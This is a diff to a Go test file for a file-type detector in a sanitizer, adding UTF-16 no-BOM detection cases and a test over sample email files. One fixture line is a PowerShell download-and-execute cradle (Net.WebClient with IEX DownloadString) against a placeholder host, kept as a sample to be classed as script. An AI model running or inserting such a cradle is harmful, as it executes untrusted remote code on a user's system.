@@ -3,6 +3,8 @@ package sanitize
 import (
 	"archive/zip"
 	"bytes"
+	"os"
+	"path/filepath"
 	"testing"
 
 	"github.com/sekisho/sekisho/internal/testtool"
@@ -55,6 +57,11 @@ func TestDetect(t *testing.T) {
 		{"office 2003 xml", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>`), "msoxml"},
 		{"utf-16le text without a bom", []byte("T\x00h\x00i\x00s\x00 \x00i\x00s\x00 \x00t\x00e\x00x\x00t\x00.\x00\r\x00\n\x00"), "text"},
 		{"utf-16be text without a bom", []byte("\x00T\x00h\x00i\x00s\x00 \x00i\x00s\x00 \x00t\x00e\x00x\x00t\x00.\x00\n"), "text"},
+		{"utf-16le mail without a bom", utf16("From: A <a@example.jp>\r\nTo: <b@example.jp>\r\nSubject: hi\r\n\r\n<div>hello</div>\r\n"), "text"},
+		{"utf-16le page without a bom", utf16("<!DOCTYPE html><html><head><title>t</title></head><body>hi</body></html>"), "html"},
+		{"utf-16le xml without a bom", utf16(`<?xml version="1.0"?><root><a>1</a></root>`), "xml"},
+		{"utf-16le powershell without a bom", utf16("$c = New-Object Net.WebClient\r\nIEX ($c.DownloadString('http://x/a'))\r\n"), "script"},
+		{"utf-16le word 2003 xml without a bom", utf16(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>`), "msoxml"},
 		{"word 2003 xml without the instruction", []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body/></w:wordDocument>`), "msoxml"},
 		{"another namespace's wordDocument stays xml", []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="urn:example"/>`), "xml"},
 		{"sylk", []byte("ID;PWXL;N;E\nC;Y1;X1;K1\nE\n"), "sylk"},
@@ -101,4 +108,19 @@ func utf16(s string) []byte {
 		b = append(b, byte(r), byte(r>>8))
 	}
 	return b
+}
+
+// TestDetectUTF16MailWithoutBOM: a real mail saved as UTF-16 without a byte order mark
+// quotes addresses in angle brackets and carries an HTML part; it is text (as it is with
+// a BOM and in UTF-8), not an unknown file.
+func TestDetectUTF16MailWithoutBOM(t *testing.T) {
+	for _, f := range []string{"uns-email-utf16le-no-bom.eml", "uns-email-utf16be-no-bom.eml"} {
+		data, err := os.ReadFile(filepath.Join("..", "testdata", "text", f))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := Detect(bytes.NewReader(data)); got.Name != "text" || got.Class != ClassText {
+			t.Errorf("Detect(%s) = %+v, want text", f, got)
+		}
+	}
 }
